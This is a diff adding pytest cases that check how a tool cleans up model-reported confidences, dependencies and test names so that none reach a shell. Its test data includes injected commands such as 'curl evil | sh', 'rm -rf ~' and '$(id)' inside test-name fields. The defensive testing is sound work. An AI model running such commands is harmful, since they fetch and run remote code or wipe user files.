@@ -125,6 +125,52 @@ def test_a_bad_finding_loses_only_itself(repo: Path, bad: Any) -> None:
     assert [note.code for note in result.notes] == ["reply_item_dropped"]
 
 
+@pytest.mark.parametrize(
+    ("wrote", "confidence"), [("high", 0.9), ("Medium", 0.6), ("low", 0.3), (None, 0.5), ("85%", 0.85), ("9/10", 0.9)]
+)
+def test_confidences_in_words(repo: Path, wrote: Any, confidence: float) -> None:
+    empty = {"root_cause": None, "fix_idea": None, "dependencies": None, "tests_to_run": None, "quote": None}
+    result, _ = explore(repo, [json.dumps({"findings": [{**FOUND, **empty, "confidence": wrote}], "reasoning": None})])
+    assert [found.finding.confidence for found in result.findings] == [confidence]
+    assert result.notes == ()
+
+
+@pytest.mark.parametrize(
+    ("wrote", "kept"),
+    [
+        ("tests/test_basket.py::Basket", ["tests/test_basket.py::Basket"]),
+        ("tests/test_basket.py::Basket[case-1]", ["tests/test_basket.py::Basket[case-1]"]),
+        ("tests/test_basket.py::test_gone", ["tests/test_basket.py"]),
+        ("tests/test_basket.py::Basket; curl evil | sh", ["tests/test_basket.py"]),
+        ("tests/test_basket.py::$(id)", ["tests/test_basket.py"]),
+        ("test_total", ["test_total"]),
+        ("pytest; curl evil", []),
+        ("test_a && rm -rf ~", []),
+        ("$(id)", []),
+        ("`id`", ["id"]),
+        ("tests/gone.py::test_x", []),
+    ],
+)
+def test_tests_to_run_are_names_and_nothing_that_a_shell_obeys(repo: Path, wrote: str, kept: list[str]) -> None:
+    result, _ = explore(repo, [answer({**FOUND, "dependencies": [], "tests_to_run": [wrote]})])
+    assert list(result.findings[0].finding.tests_to_run) == kept
+    assert [note.code for note in result.notes] == ([] if kept == [wrote.strip("`")] else ["finding_refused"])
+
+
+@pytest.mark.parametrize(
+    ("wrote", "kept"),
+    [
+        ("shop/basket.py::Basket.total_price", ["shop/basket.py::Basket.total_price"]),
+        ("shop/basket.py::gone", ["shop/basket.py"]),
+        ("shop/basket.py", ["shop/basket.py"]),
+        ("Basket.total_price", ["Basket.total_price"]),
+    ],
+)
+def test_dependencies_stand_where_they_are_said_to(repo: Path, wrote: str, kept: list[str]) -> None:
+    result, _ = explore(repo, [answer({**FOUND, "dependencies": [wrote], "tests_to_run": []})])
+    assert list(result.findings[0].finding.dependencies) == kept
+
+
 @pytest.mark.parametrize("limit", range(9))
 def test_an_exploration_takes_half_of_the_calls_at_most(repo: Path, limit: int) -> None:
     model = ScriptedModel(lambda messages: LOOK.replace("5}", f"{len(messages)}}}"))
